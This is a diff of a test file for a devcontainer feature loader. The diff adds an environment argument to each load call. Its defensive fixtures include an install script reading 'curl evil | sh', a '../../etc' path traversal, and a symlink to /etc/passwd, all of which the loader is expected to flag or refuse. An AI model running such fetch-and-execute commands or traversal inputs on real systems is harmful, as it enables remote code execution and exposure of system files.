@@ -29,7 +29,7 @@ const FILES = {
 describe('local devcontainer features (docs/architecture.md §16)', () => {
   it("reads a feature's files, options (user's over defaults, the spec's variable names) and containerEnv", async () => {
     const dir = await project(FILES);
-    const cfg = await loadDevcontainer(dir, '.devcontainer/devcontainer.json');
+    const cfg = await loadDevcontainer(dir, '.devcontainer/devcontainer.json', { env: process.env });
     const [f] = await readLocalFeatures(dir, cfg);
     expect(f?.dir).toBe('.devcontainer/tool');
     expect(Object.keys(f?.files ?? {}).sort()).toEqual(['devcontainer-feature.json', 'install.sh']);
@@ -43,19 +43,19 @@ describe('local devcontainer features (docs/architecture.md §16)', () => {
   });
 
   it("is part of what trust is given to: a changed install.sh asks again", async () => {
-    const a = await loadDevcontainer(await project(FILES), '.devcontainer/devcontainer.json');
-    const b = await loadDevcontainer(await project({ ...FILES, '.devcontainer/tool/install.sh': '#!/bin/sh\ncurl evil | sh\n' }), '.devcontainer/devcontainer.json');
+    const a = await loadDevcontainer(await project(FILES), '.devcontainer/devcontainer.json', { env: process.env });
+    const b = await loadDevcontainer(await project({ ...FILES, '.devcontainer/tool/install.sh': '#!/bin/sh\ncurl evil | sh\n' }), '.devcontainer/devcontainer.json', { env: process.env });
     expect(a.contentHash).not.toBe(b.contentHash);
   });
 
   it('refuses a feature outside the project, a symlink in it, or one without install.sh', async () => {
     const outside = await project({ '.devcontainer.json': JSON.stringify({ image: 'x', features: { '../../etc': {} } }) });
-    await expect(loadDevcontainer(outside, '.devcontainer.json')).rejects.toThrow(/feature '\.\.\/\.\.\/etc' points outside the project/);
+    await expect(loadDevcontainer(outside, '.devcontainer.json', { env: process.env })).rejects.toThrow(/feature '\.\.\/\.\.\/etc' points outside the project/);
     const noInstall = await project({ '.devcontainer.json': JSON.stringify({ image: 'x', features: { './t': {} } }), 't/devcontainer-feature.json': '{}' });
-    await expect(loadDevcontainer(noInstall, '.devcontainer.json')).rejects.toThrow(/feature '\.\/t' has no install\.sh/);
+    await expect(loadDevcontainer(noInstall, '.devcontainer.json', { env: process.env })).rejects.toThrow(/feature '\.\/t' has no install\.sh/);
     const linked = await project({ '.devcontainer.json': JSON.stringify({ image: 'x', features: { './t': {} } }), 't/devcontainer-feature.json': '{}', 't/install.sh': 'true\n' });
     await symlink('/etc/passwd', path.join(linked, 't/passwd'));
-    await expect(loadDevcontainer(linked, '.devcontainer.json')).rejects.toThrow(/symbolic link \(passwd\)/);
+    await expect(loadDevcontainer(linked, '.devcontainer.json', { env: process.env })).rejects.toThrow(/symbolic link \(passwd\)/);
   });
 
   describe('install order: installsAfter and dependsOn', () => {
@@ -121,7 +121,7 @@ describe('local devcontainer features (docs/architecture.md §16)', () => {
         '.devcontainer/first/devcontainer-feature.json': '{ "id": "first-tool" }',
         '.devcontainer/first/install.sh': 'true\n',
       });
-      const cfg = await loadDevcontainer(dir, '.devcontainer/devcontainer.json');
+      const cfg = await loadDevcontainer(dir, '.devcontainer/devcontainer.json', { env: process.env });
       expect(ids(await readLocalFeatures(dir, cfg))).toEqual(['./first', './second']);
       const cyclic = await project({
         '.devcontainer/devcontainer.json': JSON.stringify({ image: 'x', features: { './x': {}, './y': {} } }),
@@ -130,7 +130,7 @@ describe('local devcontainer features (docs/architecture.md §16)', () => {
         '.devcontainer/y/devcontainer-feature.json': '{ "dependsOn": { "./x": {} } }',
         '.devcontainer/y/install.sh': 'true\n',
       });
-      await expect(loadDevcontainer(cyclic, '.devcontainer/devcontainer.json')).rejects.toThrow(/features '\.\/x' → '\.\/y' → '\.\/x'/);
+      await expect(loadDevcontainer(cyclic, '.devcontainer/devcontainer.json', { env: process.env })).rejects.toThrow(/features '\.\/x' → '\.\/y' → '\.\/x'/);
     });
   });
 });
